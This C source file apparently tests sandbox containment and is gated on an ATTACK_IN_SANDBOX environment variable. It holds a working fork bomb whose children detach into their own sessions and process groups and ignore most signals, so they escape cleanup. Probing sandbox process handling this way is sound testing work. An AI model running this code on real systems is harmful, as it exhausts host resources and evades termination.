// fork from many threads at the moment at which its first process ends, each child in a group and session of its own
#include <pthread.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

static void *leave(void *none) {
    for (;;) {
        const pid_t child = fork();
        if (child != 0) continue;
        setsid(), setpgid(0, 0);
        for (int number = 1; number < 64; number++) signal(number, SIG_IGN);
        if (fork() == 0) setsid();
        for (int i = 0; i < 1000000; i++) usleep(100000);
    }
    return none;
}

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    for (int i = 0; i < 6; i++) {
        pthread_t thread;
        if (pthread_create(&thread, NULL, leave, NULL)) break;
    }
    usleep(20000);
    if (write(1, "DONE\n", 5) != 5) return 1;
    _exit(0);
}
